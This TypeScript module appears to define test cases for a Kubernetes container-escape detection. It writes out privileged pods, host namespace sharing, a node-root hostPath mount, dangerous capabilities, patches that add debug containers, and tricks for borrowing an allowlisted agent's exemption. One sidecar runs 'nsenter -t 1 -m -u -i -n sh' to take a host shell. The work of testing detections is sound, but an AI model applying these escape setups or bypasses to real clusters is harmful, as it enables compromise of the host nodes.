// ADS-0003: privileged and escape-prone pods, written in every workload kind and changed in place.
import { DEV } from './audit.js';
import { type WorkloadKind, type PodShape, createWorkload, ALPINE, sleeper, one } from './workload.js';
import { R, type Spec } from './spec.js';

const T = 'T1611';

/** One escape setting per workload kind: the template is where a person writes it. */
export function perWorkloadKind(): Spec[] {
  const out: Spec[] = [];
  const perKind: Array<[WorkloadKind, string, PodShape, string, string]> = [
    ['Deployment', 'privileged container in a Deployment template', one({ securityContext: { privileged: true } }), 'priv-deployment', R.privileged],
    [
      'DaemonSet',
      'privileged init container in a DaemonSet template',
      {
        spec: {
          initContainers: [{ name: 'setup', image: ALPINE, command: ['sh', '-c', 'true'], securityContext: { privileged: true } }],
          containers: [sleeper()],
        },
      },
      'priv-init-daemonset',
      R.privileged,
    ],
    ['StatefulSet', 'hostPID in a StatefulSet template', one({}, { hostPID: true }), 'hostpid-statefulset', R.hostAccess],
    ['Job', 'hostIPC in a Job template', one({}, { hostIPC: true }), 'hostipc-job', R.hostAccess],
    [
      'CronJob',
      'hostNetwork and the node root in a CronJob job template',
      {
        spec: {
          hostNetwork: true,
          containers: [sleeper({ volumeMounts: [{ name: 'r', mountPath: '/r' }] })],
          volumes: [{ name: 'r', hostPath: { path: '/' } }],
        },
      },
      'hostnet-root-cronjob',
      R.hostAccess,
    ],
    [
      'ReplicaSet',
      'cap_sys_admin (lower case, CAP_ prefix) in a ReplicaSet template',
      one({ securityContext: { capabilities: { add: ['cap_sys_admin'] } } }),
      'caps-replicaset',
      R.capabilities,
    ],
    [
      'ReplicationController',
      'capability ALL in a ReplicationController template',
      one({ securityContext: { capabilities: { add: ['ALL'] } } }),
      'caps-all-rc',
      R.capabilities,
    ],
    ['PodTemplate', 'privileged container in a PodTemplate', one({ securityContext: { privileged: true } }), 'priv-podtemplate', R.privileged],
    [
      'Pod',
      'SYS_PTRACE and BPF added to a bare pod',
      one({ securityContext: { capabilities: { add: ['SYS_PTRACE', 'BPF'] } } }),
      'caps-ptrace-bpf-pod',
      R.capabilities,
    ],
  ];
  for (const [kind, what, pod, id, rule] of perKind) {
    out.push({
      id,
      family: 'k8s-controller',
      technique: T,
      description: `A developer creates a ${what}.`,
      expect: [rule],
      requests: [createWorkload(DEV, kind, id, 'default', pod)],
    });
  }
  return out;
}

/** Changes to existing workloads (JSON patch, strategic merge patch, full update) and ephemeral containers. */
export function changesToWorkloads(): Spec[] {
  const out: Spec[] = [];
  out.push({
    id: 'priv-json-patch-deployment',
    family: 'k8s-patch',
    technique: T,
    description: 'A JSON patch makes the first container of an existing Deployment privileged.',
    expect: [R.privileged],
    requests: [
      {
        actor: DEV,
        verb: 'patch',
        resource: 'deployments',
        group: 'apps',
        namespace: 'default',
        name: 'web',
        body: [{ op: 'add', path: '/spec/template/spec/containers/0/securityContext', value: { privileged: true } }],
      },
    ],
  });
  out.push({
    id: 'hostpid-merge-patch-daemonset',
    family: 'k8s-patch',
    technique: T,
    description: 'A strategic merge patch turns on hostPID in an existing DaemonSet.',
    expect: [R.hostAccess],
    requests: [
      {
        actor: DEV,
        verb: 'patch',
        resource: 'daemonsets',
        group: 'apps',
        namespace: 'default',
        name: 'agent',
        body: { spec: { template: { spec: { hostPID: true } } } },
      },
    ],
  });
  out.push({
    id: 'priv-update-deployment',
    family: 'k8s-patch',
    technique: T,
    description: 'kubectl replace sends a whole Deployment whose container is now privileged.',
    expect: [R.privileged],
    requests: [{ ...createWorkload(DEV, 'Deployment', 'web', 'default', one({ securityContext: { privileged: true } })), verb: 'update' }],
  });
  // Ephemeral containers: kubectl debug by patch (current kubectl) or update (older clients).
  out.push({
    id: 'ephemeral-sysadmin-patch',
    family: 'k8s-ephemeral',
    technique: T,
    description: 'kubectl debug --profile=sysadmin adds a privileged ephemeral container to a running pod (patch of pods/ephemeralcontainers).',
    expect: [R.privileged, R.exec],
    requests: [
      {
        actor: DEV,
        verb: 'patch',
        resource: 'pods',
        namespace: 'default',
        name: 'web-7d4b9',
        subresource: 'ephemeralcontainers',
        body: {
          spec: {
            ephemeralContainers: [
              {
                name: 'debugger-x2k4p',
                image: 'docker.io/library/busybox:1.36',
                stdin: true,
                tty: true,
                targetContainerName: 'web',
                securityContext: { privileged: true },
              },
            ],
          },
        },
      },
    ],
  });
  out.push({
    id: 'ephemeral-caps-update',
    family: 'k8s-ephemeral',
    technique: T,
    description: 'An older client replaces the ephemeral containers of a running pod with one adding SYS_PTRACE (update of pods/ephemeralcontainers).',
    expect: [R.capabilities],
    requests: [
      {
        actor: DEV,
        verb: 'update',
        resource: 'pods',
        namespace: 'default',
        name: 'web-7d4b9',
        subresource: 'ephemeralcontainers',
        body: {
          kind: 'Pod',
          apiVersion: 'v1',
          metadata: { name: 'web-7d4b9', namespace: 'default' },
          spec: {
            containers: [{ name: 'web', image: 'docker.io/library/nginx:1.27' }],
            ephemeralContainers: [{ name: 'dbg', image: 'docker.io/library/busybox:1.36', securityContext: { capabilities: { add: ['SYS_PTRACE'] } } }],
          },
        },
      },
    ],
  });
  return out;
}

/** An isolation annotation patched in alone, and privileged containers hidden in or beside an allowlisted agent. */
export function annotationAndAllowlistTricks(): Spec[] {
  const out: Spec[] = [];
  out.push({
    id: 'seccomp-annotation-json-patch',
    family: 'k8s-patch',
    technique: T,
    description: "A JSON patch adds only the legacy seccomp annotation (unconfined) to a Deployment's pod template.",
    expect: [R.isolation],
    requests: [
      {
        actor: DEV,
        verb: 'patch',
        resource: 'deployments',
        group: 'apps',
        namespace: 'default',
        name: 'web',
        body: [{ op: 'add', path: '/spec/template/metadata/annotations/seccomp.security.alpha.kubernetes.io~1pod', value: 'unconfined' }],
      },
    ],
  });
  out.push({
    id: 'ephemeral-priv-in-agent-pod',
    family: 'k8s-ephemeral',
    technique: T,
    description: 'A privileged ephemeral container added to a node-exporter pod: the agent allowlist does not cover what is added to it.',
    expect: [R.privileged],
    requests: [
      {
        actor: DEV,
        verb: 'update',
        resource: 'pods',
        namespace: 'monitoring',
        name: 'node-exporter-4kq9z',
        subresource: 'ephemeralcontainers',
        body: {
          kind: 'Pod',
          apiVersion: 'v1',
          metadata: { name: 'node-exporter-4kq9z', namespace: 'monitoring' },
          spec: {
            hostPID: true,
            containers: [{ name: 'node-exporter', image: 'quay.io/prometheus/node-exporter:v1.8.2' }],
            ephemeralContainers: [{ name: 'dbg', image: 'quay.io/prometheus/node-exporter:v1.8.2', command: ['sh'], securityContext: { privileged: true } }],
          },
        },
      },
    ],
  });
  out.push({
    id: 'agent-image-sidecar-priv',
    family: 'k8s-allowlist-abuse',
    technique: T,
    description: "A privileged pod that carries a node-exporter sidecar to borrow the agent allowlist's pass; its own container comes from another publisher.",
    expect: [R.privileged],
    requests: [
      createWorkload(DEV, 'DaemonSet', 'node-exporter-extra', 'monitoring', {
        spec: {
          hostPID: true,
          containers: [
            { name: 'node-exporter', image: 'quay.io/prometheus/node-exporter:v1.8.2' },
            { name: 'helper', image: 'ghcr.io/attacker/tools:1', command: ['sh', '-c', 'nsenter -t 1 -m -u -i -n sh'], securityContext: { privileged: true } },
          ],
        },
      }),
    ],
  });
  return out;
}
